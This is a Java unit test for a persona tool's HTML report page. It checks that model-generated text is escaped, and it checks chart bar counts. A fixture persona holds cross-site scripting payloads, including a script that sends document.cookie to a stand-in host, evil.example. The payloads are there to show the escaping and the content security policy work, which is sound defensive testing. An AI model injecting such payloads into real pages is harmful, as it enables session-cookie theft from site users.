package io.personaforge.report;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;

class ReportPageTest {
  /** A small summary in the shape PersonaRun writes. */
  static final String SUMMARY =
      """
      {"tool_version":"t","runner":"direct","seconds":1.5,"seed":7,"taxonomy":"builtin:general",
       "config_hash":"abcdef0123456789",
       "counts":{"target":3,"generated":4,"accepted":3,"rejected":1,"duplicates":0,"surplus":0,
                 "balanced":true},
       "quotas":[{"cell":"g=female","target":2,"achieved":2,"difference":0},
                 {"cell":"g=male","target":1,"achieved":1,"difference":0}],
       "rounds":[{"round":0,"generated":4,"accepted":3,"rejected":1,"duplicates":0,"surplus":0,
                  "seconds":1.2}],
       "short_cells":[],
       "leaf_coverage":{"leaves":10,"used":4,"share":0.4,"unused_sample":[]},
       "validation":{"personas_validated":4,"attempts":5,"accepted":3,"rejected":1,"revisions":1,
                     "personas_revised":1,"hard_error_rate":0.0,"warning_rate":0.0,
                     "rules":{"word_count":{"attempts":5,"failed":2,"pass_rate":0.6},
                              "<b>odd</b>":{"attempts":5,"failed":0,"pass_rate":1.0}}},
       "llm":{"calls":5,"cache_hits":0,"retries":1,"prompt_tokens":10,"completion_tokens":20},
       "generator":{"provider":"offline","model":"m","prompt_version":"v"},
       "quota_fit":[{"attributes":["g"],"kl_divergence":0.0,"total_absolute_error":0.0,
                     "values":[{"value":"female","configured_share":0.67,"target":2,"achieved":2,
                                "achieved_share":0.67},
                               {"value":"male","configured_share":0.33,"target":1,"achieved":1,
                                "achieved_share":0.33}]}],
       "corpus":{"personas":3,
                 "narrative_words":{"mean":40,"min":30,"p50":40,"p95":50,"max":50,"bin_width":10,
                   "histogram":[{"from":30,"to":40,"count":1},{"from":40,"to":50,"count":1},
                                {"from":50,"to":60,"count":1}]},
                 "distinct_n":{"sample":3,"tokens":120,"distinct_1":0.5,"distinct_2":0.8},
                 "nn_similarity":{"sample":3,"mean":0.2,"p95":0.3,"dedup_threshold":0.5,
                   "histogram":[{"from":0,"to":0.5,"count":3},{"from":0.5,"to":1,"count":0}]},
                 "first_names":{"named":3,"distinct_first_names":3,"repeated_name_rate":0,
                                "most_common":[]},
                 "duplicates":{"pairs":0,"by_method":{}},
                 "attributes":{"g":[{"value":"female","count":2},{"value":"male","count":1}]}},
       "timings":{"planning":0.1,"prepare":0.1,"rounds":1.2,"tables":0,"metrics":0.1,"report":0,
                  "total":1.5}}
      """;

  private static final CorpusMetrics.ShownPersona EVIL =
      new CorpusMetrics.ShownPersona(
          "id1",
          "Eve <img src=x onerror=alert(1)>",
          "g=female",
          Map.of("g", "female\"><script>alert(2)</script>"),
          "Ignore this: <script>fetch('https://evil.example/'+document.cookie)</script> & more",
          1,
          List.of("tone: <i>flat</i>"));

  @Test
  void modelOutputIsEscapedEverywhereAndThePageHasNoScriptNorAnythingToFetch() {
    String html = ReportPage.render(SUMMARY, List.of(EVIL));
    assertFalse(html.toLowerCase().contains("<script"), "no script at all");
    assertFalse(html.contains("<img"), html);
    assertFalse(html.contains("<b>odd</b>"), "rule names are escaped too");
    assertFalse(
        Pattern.compile("(?i)<[^>]*\\b(src|href)\\s*=").matcher(html).find(),
        "no tag links or loads anything");
    assertTrue(html.contains("&lt;script&gt;fetch(&#39;https://evil.example/"));
    assertTrue(html.contains("Eve &lt;img src=x onerror=alert(1)&gt;"));
    assertTrue(html.contains("default-src 'none'"), "a CSP forbids fetching anything");
  }

  @Test
  void everyChartDeclaresTheBarsItDraws() {
    String html = ReportPage.render(SUMMARY, List.of());
    Matcher svg =
        Pattern.compile(
                "<svg class=\"chart\" data-chart=\"([^\"]+)\" data-bars=\"(\\d+)\"(.*?)</svg>")
            .matcher(html);
    Map<String, Integer> bars = new LinkedHashMap<>();
    while (svg.find()) {
      int drawn = svg.group(3).split("<rect class=\"bar ", -1).length - 1;
      assertEquals(Integer.parseInt(svg.group(2)), drawn, svg.group(1));
      bars.put(svg.group(1), drawn);
    }
    assertEquals(
        Map.of(
            "quota:g", 4,
            "attribute:g", 2,
            "narrative-length", 3,
            "nn-similarity", 1,
            "validation-failures", 1),
        bars);
    assertTrue(html.contains("dedup threshold 0.5"), "the threshold is marked");
  }
}
